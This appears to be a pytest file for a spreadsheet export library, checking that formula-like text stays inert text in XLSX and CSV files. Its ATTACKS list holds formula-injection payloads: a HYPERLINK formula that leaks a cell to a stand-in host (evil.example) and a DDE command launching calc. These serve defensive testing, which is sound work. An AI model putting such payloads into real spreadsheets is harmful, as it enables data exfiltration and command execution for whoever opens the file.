"""The one spreadsheet writer: text that looks like a formula stays text, in CSV and XLSX."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tsunagu.lib.tabular import XlsxBook, csv_bytes, csv_lines, read_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def written_xlsx(rows):
    book = XlsxBook()
    sheet = book.sheet("試験")
    for row in rows:
        sheet.append(row)
    return load_workbook(io.BytesIO(book.to_bytes())).active


@pytest.mark.parametrize("text", ATTACKS)
def test_it_writes_formula_text_as_text_in_xlsx(text):
    cell = written_xlsx([[text]])["A1"]
    assert cell.data_type != "f"
    assert cell.data_type == "s"
    # The XML writer either keeps a carriage return (lxml escapes it) or the reader turns it
    # into \n (the standard library's parser): either way the cell holds the same text.
    assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")
    assert cell.quotePrefix


@pytest.mark.parametrize("text", ATTACKS)
def test_it_writes_formula_text_with_an_apostrophe_in_csv(text):
    data = csv_bytes([[text]])
    (row,) = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_csv_export_goes_back_in_unchanged(text):
    assert read_table(csv_bytes([[text, "x"]]), "back.csv") == [[text, "x"]]


def test_real_numbers_stay_numbers():
    sheet = written_xlsx([[-5, -2.5, 0, "-5"]])
    assert [c.data_type for c in sheet[1]] == ["n", "n", "n", "s"]
    assert [c.value for c in sheet[1]][:3] == [-5, -2.5, 0]
    text = csv_bytes([[-5, -2.5, date(2021, 10, 1), None]]).decode("utf-8-sig")
    assert text == "-5,-2.5,2021-10-01,\r\n"


def test_it_drops_control_characters_xml_cannot_hold():
    assert written_xlsx([["a\x0bb\x01c"]])["A1"].value == "abc"


def test_csv_starts_with_a_bom_and_streams_line_by_line():
    lines = list(csv_lines([["名称"], ["=1"]]))
    assert lines == ["\ufeff", "名称\r\n", "'=1\r\n"]
    assert csv_bytes([["名称"]]).startswith("\ufeff".encode())


def test_it_keeps_titles_headers_and_several_sheets():
    book = XlsxBook()
    first = book.sheet("一")
    first.title("=見出し")
    first.header(["=列"])
    first.rows([["@x"]], wrap=True)
    book.sheet("二").append(["ok"])
    workbook = load_workbook(io.BytesIO(book.to_bytes()))
    assert workbook.sheetnames == ["一", "二"]
    cells = [workbook["一"][f"A{n}"] for n in (1, 2, 3)]
    assert [c.value for c in cells] == ["=見出し", "=列", "@x"]
    assert all(c.data_type == "s" for c in cells)
    assert cells[0].font.bold and cells[1].font.bold and cells[2].alignment.wrap_text
